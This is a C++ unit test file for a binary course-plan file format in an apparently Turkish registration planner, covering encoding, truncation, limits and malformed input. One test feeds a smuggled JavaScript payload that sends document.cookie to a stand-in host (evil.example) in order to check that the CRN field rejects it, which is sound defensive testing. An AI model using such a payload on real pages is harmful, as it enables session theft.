#include "files/dkf_format.h"

#include <gtest/gtest.h>

#include <random>
#include <string>

#include "files/reset_plan.h"
#include "text/cp1254.h"
#include "text/errors.h"

namespace kiremo::files {
namespace {

using namespace std::string_literals;

using test_plans::ResetPlan;

// Row 2 committed with two meetings, row 5 only previewed.
planner::PlanSnapshot SamplePlan() {
  planner::PlanSnapshot plan = ResetPlan();
  plan.combos[3] = "ELK";
  plan.combos[4] = "ELK 221";
  plan.combos[5] = std::string("21345:: Ayşe Öztürk :: Salı|Perşembe :: EEB|EEB"_w) + "----------Kaydedildi";
  plan.combos[12] = "MAT";
  plan.combos[13] = "MAT 102";
  plan.combos[14] = std::string("22001:: Ömer Çelik :: Pazartesi :: MKB"_w);
  for (int hour = 1; hour <= 2; ++hour) plan.cells[1][hour] = 2;  // Tuesday 09:30-11:29
  plan.cells[3][5] = 2;                                           // Thursday 13:30
  planner::StoredRow row;
  row.DersKodu = "ELK 221";
  row.DersAdi = "Devre Teorisi Şube 1"_w;
  row.CRN = "21345";
  row.Ogretmen = "Ayşe Öztürk"_w;
  row.BlokSayisi = 2;
  row.meetings = {{"EEB", "2", "09:11", "D-101"}, {"EEB", "4", "13:14", "D-102"}};
  plan.rows[1] = row;
  plan.committed[1] = "21345";
  return plan;
}

TEST(DkfFormat, ResetPlanIs410BytesOfSecinEmptyStringsZerosAndFlags) {
  const std::string bytes = EncodePlan(ResetPlan());
  ASSERT_EQ(bytes.size(), 410u);
  std::string expected;
  for (int row = 1; row <= 10; ++row) expected += "Se\xE7in\0\0\0"s;  // "Seçin", then two empty strings
  expected += std::string(280, '\0');                                 // Block B
  expected += std::string(40, '\0');                                  // ten flags 0
  expected += std::string(10, '\0');                                  // ten empty CRNs
  EXPECT_EQ(bytes, expected);
  EXPECT_EQ(DecodePlan(bytes), ResetPlan());
}

TEST(DkfFormat, CommittedRowIsWrittenInTheRecordOrder) {
  planner::PlanSnapshot plan;
  planner::StoredRow row;
  row.DersKodu = "A";
  row.DersAdi = "B";
  row.CRN = "12345";
  row.Ogretmen = "C";
  row.BlokSayisi = 1;
  row.meetings = {{"MKB", "3", "08:10", "R1"}};
  plan.rows[9] = row;
  plan.cells[4][13] = 10;  // Friday 21:30
  const std::string bytes = EncodePlan(plan);
  const std::string block_a(30, '\0');
  std::string block_b(280, '\0');
  block_b[4 * (4 * 14 + 13)] = 10;
  const std::string block_c = std::string(36, '\0') + "\x01\0\0\0"s + "A\0B\0"s + "12345\0C\0"s + "\x01\0\0\0"s +
                              "\x01\0\0\0"s +
                              "MKB\0"
                              "3\0"
                              "08:10\0"
                              "R1\0"s;
  EXPECT_EQ(bytes, block_a + block_b + block_c + std::string(10, '\0'));
}

TEST(DkfFormat, IntegersAreLittleEndianAndSigned) {
  DkfWriter out;
  out.WriteInteger(0x01020304);
  out.WriteInteger(-2);
  EXPECT_EQ(out.Bytes(), "\x04\x03\x02\x01\xFE\xFF\xFF\xFF"s);
  DkfReader in(out.Bytes());
  EXPECT_EQ(in.ReadInteger(), 0x01020304);
  EXPECT_EQ(in.ReadInteger(), -2);
  EXPECT_EQ(in.Remaining(), 0u);
}

TEST(DkfFormat, ReadersStopAtTheEndOfTheData) {
  const std::string text = "ab\0cd"s;
  DkfReader strings(text);
  EXPECT_EQ(strings.ReadString(), "ab");
  EXPECT_THROW(strings.ReadString(), PlanFormatError);  // "cd" has no zero byte
  EXPECT_EQ(strings.Remaining(), 2u);
  const std::string three = "\x01\x02\x03"s;
  DkfReader integers(three);
  EXPECT_THROW(integers.ReadInteger(), PlanFormatError);
  EXPECT_THROW(DkfReader(std::string_view()).ReadString(), PlanFormatError);
}

TEST(DkfFormat, PlanSurvivesEncodingAndDecoding) {
  const planner::PlanSnapshot plan = SamplePlan();
  EXPECT_EQ(DecodePlan(EncodePlan(plan)), plan);
}

TEST(DkfFormat, TextsAreCutAt255BytesAndAtAZeroByte) {
  planner::PlanSnapshot plan = SamplePlan();
  plan.rows[1]->DersAdi = std::string(300, '\xE7');  // 300 "ç"
  plan.combos[14] = "22001\0hidden"s;
  const planner::PlanSnapshot back = DecodePlan(EncodePlan(plan));
  EXPECT_EQ(back.rows[1]->DersAdi, std::string(255, '\xE7'));
  EXPECT_EQ(back.combos[14], "22001");
  // Everything after the cut texts is still in its place.
  EXPECT_EQ(back.rows[1]->CRN, "21345");
  EXPECT_EQ(back.committed, plan.committed);
}

TEST(DkfFormat, LongerStringsOfOtherWritersAreReadWhole) {
  std::string bytes = EncodePlan(ResetPlan());
  bytes.replace(0, 5, std::string(400, 'x'));  // the first "Seçin" becomes 400 bytes
  EXPECT_EQ(DecodePlan(bytes).combos[0], std::string(400, 'x'));
}

TEST(DkfFormat, EveryFileCutShortIsRejected) {
  const std::string bytes = EncodePlan(SamplePlan());
  for (std::size_t size = 0; size < bytes.size(); ++size) {
    EXPECT_THROW(DecodePlan(std::string_view(bytes).substr(0, size)), PlanFormatError) << size << " bytes";
  }
}

TEST(DkfFormat, TheMessageNamesTheBlockThatIsCut) {
  const std::string bytes = EncodePlan(ResetPlan());
  struct Case {
    std::size_t size;
    std::string_view words;
  };
  const Case cases[] = {
      {0, "dosya boş"_w},
      {50, "ders seçimleri yarıda kesilmiş"_w},
      {80 + 140, "ders programı hücreleri yarıda kesilmiş"_w},
      {80 + 280 + 20, "ders kayıtları yarıda kesilmiş"_w},
      {409, "kaydedilmiş CRN'ler yarıda kesilmiş"_w},
  };
  for (const Case& c : cases) {
    try {
      DecodePlan(std::string_view(bytes).substr(0, c.size));
      ADD_FAILURE() << c.size;
    } catch (const PlanFormatError& e) {
      EXPECT_NE(std::string(e.what()).find(c.words), std::string::npos) << c.size << ": " << e.what();
    }
  }
}

TEST(DkfFormat, ValuesNoSavedPlanHoldsAreRejected) {
  const std::string good = EncodePlan(ResetPlan());
  auto with_integer_at = [&](std::size_t offset, int value) {
    std::string bytes = good;
    DkfWriter w;
    w.WriteInteger(value);
    bytes.replace(offset, 4, w.Bytes());
    return bytes;
  };
  const std::size_t first_cell = 80;
  const std::size_t first_flag = 80 + 280;
  EXPECT_THROW(DecodePlan(with_integer_at(first_cell, 11)), PlanFormatError);
  EXPECT_THROW(DecodePlan(with_integer_at(first_cell, 26)), PlanFormatError);
  EXPECT_THROW(DecodePlan(with_integer_at(first_cell, -1)), PlanFormatError);
  EXPECT_THROW(DecodePlan(with_integer_at(first_flag, 2)), PlanFormatError);
  // Preview marks are states the grid knows; a file may hold them.
  EXPECT_EQ(DecodePlan(with_integer_at(first_cell, 15)).cells[0][0], 15);
  EXPECT_EQ(DecodePlan(with_integer_at(first_cell, 25)).cells[0][0], 25);
}

// The committed CRN goes into the add/drop script that runs on the
// registration page: a file must not carry code there.
TEST(DkfFormat, ACommittedCrnIsFiveDigits) {
  for (const std::string crn :
       {"1,fetch('https://evil.example/?c='+document.cookie)", "2134", "213456", "21 45", "21345\n", ""}) {
    planner::PlanSnapshot plan = SamplePlan();
    plan.rows[1]->CRN = crn;
    try {
      DecodePlan(EncodePlan(plan));
      ADD_FAILURE() << crn;
    } catch (const PlanFormatError& e) {
      EXPECT_EQ(std::string(e.what()), "2. satırdaki dersin CRN'si beş haneli bir sayı değil"_w) << crn;
    }
  }
}

TEST(DkfFormat, ACountOfZeroOrLessReadsNoEntries) {
  planner::PlanSnapshot plan = ResetPlan();
  plan.rows[0] = planner::StoredRow{"A", "B", "12345", "C", 3, {}};
  std::string bytes = EncodePlan(plan);
  // The count is the last integer of row 1's record, just before row 2's flag.
  const std::size_t count_offset = 80 + 280 + 4 + 12 + 4;  // after the flag, "A B 12345 C" and BlokSayisi
  ASSERT_EQ(bytes.substr(count_offset, 4), std::string(4, '\0'));
  bytes.replace(count_offset, 4, "\xF6\xFF\xFF\xFF"s);  // -10
  const planner::PlanSnapshot back = DecodePlan(bytes);
  ASSERT_TRUE(back.rows[0]);
  EXPECT_TRUE(back.rows[0]->meetings.empty());
  EXPECT_EQ(back.rows[0]->BlokSayisi, 3);
}

// A section meets at most once in each of the grid's 70 cells. A row with
// more meetings is no saved plan, and reading thousands of them cost seconds
// in every walk over the row; a runaway count is refused before anything is
// read or allocated.
TEST(DkfFormat, ARowHoldsAtMostSeventyMeetings) {
  auto plan_with = [](int meetings) {
    planner::PlanSnapshot plan = ResetPlan();
    plan.rows[3] = planner::StoredRow{"A", "B", "12345", "C", meetings, {}};
    plan.rows[3]->meetings.assign(meetings, planner::StoredMeeting{"", "1", "08:09", ""});
    return EncodePlan(plan);
  };
  EXPECT_EQ(DecodePlan(plan_with(70)).rows[3]->meetings.size(), 70u);
  std::string runaway = plan_with(1);
  const std::size_t count_offset = 80 + 280 + 3 * 4 + 4 + 12 + 4;  // row 4's count
  runaway.replace(count_offset, 4, "\xFF\xFF\xFF\x7F"s);
  for (const auto& [bytes, count] :
       {std::pair{plan_with(71), "71"}, {plan_with(20000), "20000"}, {runaway, "2147483647"}}) {
    try {
      DecodePlan(bytes);
      ADD_FAILURE() << count;
    } catch (const PlanFormatError& e) {
      EXPECT_EQ(std::string(e.what()), std::string("4. satırdaki dersin "_w) + count +
                                           std::string(" ders saati var (bir şubenin en çok 70 ders saati olur)"_w));
    }
  }
}

TEST(DkfFormat, BytesAfterTheFourBlocksAreIgnored) {
  const planner::PlanSnapshot plan = SamplePlan();
  EXPECT_EQ(DecodePlan(EncodePlan(plan) + "extra"), plan);
}

TEST(DkfFormat, GarbageIsRejected) {
  std::mt19937 random(20240611);
  for (int trial = 0; trial < 200; ++trial) {
    std::string bytes(1 + random() % 4000, '\0');
    for (char& c : bytes) c = static_cast<char>(random() % 8 == 0 ? 0 : random() % 256);
    EXPECT_THROW(DecodePlan(bytes), PlanFormatError) << trial;
  }
  EXPECT_THROW(DecodePlan("[ayarlar]\r\nbolum_kodu=ELK\r\n"), PlanFormatError);
}

}  // namespace
}  // namespace kiremo::files
